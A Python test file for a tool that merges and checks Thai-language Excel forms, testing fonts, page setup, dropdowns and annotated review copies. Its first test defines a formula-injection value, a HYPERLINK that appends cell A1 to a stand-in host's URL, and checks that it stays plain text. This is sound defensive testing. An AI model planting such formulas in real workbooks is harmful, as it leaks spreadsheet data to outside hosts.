"""What itadocs writes into workbooks: text stays text, Thai font everywhere, forms print one page
wide, dropdowns stored as the file format has them, and annotated copies that never stack."""

from __future__ import annotations

import shutil
import zipfile

from openpyxl import load_workbook

import itadocs
from itadocs import schema
from itadocs.excel.annotate import MARKS_SHEET, SUMMARY_SHEET
from itadocs.excel.merged import MERGED_SHEET

from .conftest import invoke, measure

INJECTED = '=HYPERLINK("http://example.invalid/?"&A1,"คลิก")'


def test_text_that_looks_like_a_formula_stays_text_everywhere_itadocs_writes(make_project, tmp_path):
    root = make_project({"กองคลัง": [measure(steps="+1 ขั้นแรก", monitoring="@ผู้บริหาร", period="-", progress="")]})
    wb = load_workbook(root / "inputs" / "กองคลัง.xlsx")
    typed = wb[schema.MEASURES_SHEET]["F3"]  # typed with a leading ' in Excel, or pasted: text
    typed.value, typed.data_type = INJECTED, "s"
    wb.save(root / "inputs" / "กองคลัง.xlsx")
    path = itadocs.merge(root).path
    assert path is not None
    merged = load_workbook(path)[MERGED_SHEET]
    cells = {c.value: c for c in merged[2] if isinstance(c.value, str)}
    for text in (INJECTED, "+1 ขั้นแรก", "@ผู้บริหาร", "-"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text

    report = itadocs.check(root)  # the empty progress cell gives an annotated copy
    summary = load_workbook(report.annotated[0])[SUMMARY_SHEET]
    assert all(c.data_type != "f" for row in summary.iter_rows() for c in row)

    init = invoke("init", tmp_path / "new", "--org", "=1+1", "--fiscal-year", "2568", "--division", "=SUM(1)")
    assert init.exit_code == 0, init.output
    for path in (tmp_path / "new" / "inputs").glob("*.xlsx"):
        with zipfile.ZipFile(path) as z:
            assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")), path


def test_rows_itadocs_writes_are_in_the_thai_font(make_project, tmp_path):
    root = make_project({"กองคลัง": [measure()]})
    path = itadocs.merge(root).path
    assert path is not None
    merged = load_workbook(path)[MERGED_SHEET]
    assert {c.font.name for c in merged[2] if c.value is not None} == {schema.DEFAULT_FONT}

    invoke("init", tmp_path / "p", "--fiscal-year", "2568", "--division", "กองคลัง")
    scores = load_workbook(tmp_path / "p" / "inputs" / "ข้อมูลหน่วยงาน.xlsx")[schema.INDICATOR_SCORES.sheet]
    first = schema.INDICATOR_SCORES.first_data_row
    filled = [c for c in scores[first] if c.value is not None]
    assert filled and {c.font.name for c in filled} == {schema.DEFAULT_FONT}


def test_the_division_form_prints_one_page_wide_and_dropdowns_have_no_equals_sign(tmp_path):
    invoke("init", tmp_path, "--fiscal-year", "2568", "--division", "กองคลัง")
    path = tmp_path / "inputs" / "กองคลัง.xlsx"
    ws = load_workbook(path)[schema.MEASURES_SHEET]
    assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.orientation == "landscape"
    formulas = [dv.formula1 for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert formulas and all(f.startswith(schema.LISTS_SHEET + "!") for f in formulas)
    with zipfile.ZipFile(path) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<formula1>=" not in sheets


def test_a_returned_annotated_copy_is_an_input_like_any_other(make_project):
    root = make_project({"กองคลัง": [measure(), measure(tool="XIT", progress="")]})
    first = itadocs.check(root)
    copy = root / "output" / "กองคลัง (ตรวจสอบ).xlsx"
    assert first.annotated == (copy,)
    marked = load_workbook(copy)["มาตรการ"]
    before_fill = load_workbook(root / "inputs" / "กองคลัง.xlsx")["มาตรการ"]["B4"].fill.fgColor.rgb
    assert marked["B4"].comment is not None and marked["B4"].fill.fgColor.rgb != before_fill

    # The division fixes the tool in the annotated copy and sends it back; the coordinator puts it in inputs/.
    wb = load_workbook(copy)
    wb["มาตรการ"]["B4"] = "EIT"
    wb.save(root / "inputs" / copy.name)
    (root / "inputs" / "กองคลัง.xlsx").unlink()

    second = itadocs.check(root)
    assert [p.code for p in second.errors] == []  # the summary sheet is not read as the form
    assert {p.code for p in second.warnings} == {"round-value-missing"}
    assert second.annotated == (copy,)  # the original name, never "(ตรวจสอบ) (ตรวจสอบ)"
    assert [p.name for p in (root / "output").glob("*.xlsx")] == [copy.name]
    again = load_workbook(copy)
    assert [ws for ws in again.sheetnames if ws.startswith(SUMMARY_SHEET)] == [SUMMARY_SHEET]
    assert again["มาตรการ"]["B4"].comment is None  # fixed: no old comment
    assert again["มาตรการ"]["B4"].fill.fgColor.rgb == before_fill  # and its own colour back
    assert again["มาตรการ"]["K4"].comment is not None  # the warning that remains is marked
    assert again[MARKS_SHEET].sheet_state == "veryHidden"


def test_copies_for_problems_that_are_gone_are_removed(make_project):
    root = make_project({"กองคลัง": [measure(tool="XIT")], "กองช่าง": [measure()]})
    assert [p.name for p in itadocs.check(root).annotated] == ["กองคลัง (ตรวจสอบ).xlsx"]
    edited_elsewhere = root / "output" / "กองช่าง (ตรวจสอบ).xlsx"  # someone's own file: never touched
    shutil.copy(root / "inputs" / "กองช่าง.xlsx", edited_elsewhere)

    fixed = load_workbook(root / "inputs" / "กองคลัง.xlsx")
    fixed["มาตรการ"]["B3"] = "EIT"
    fixed.save(root / "inputs" / "กองคลัง.xlsx")
    build = invoke("build", root)
    assert build.exit_code == 0, build.output
    assert not (root / "output" / "กองคลัง (ตรวจสอบ).xlsx").exists()
    assert "ลบสำเนาตรวจสอบที่ไม่มีปัญหาแล้ว" in build.output
    assert edited_elsewhere.exists()
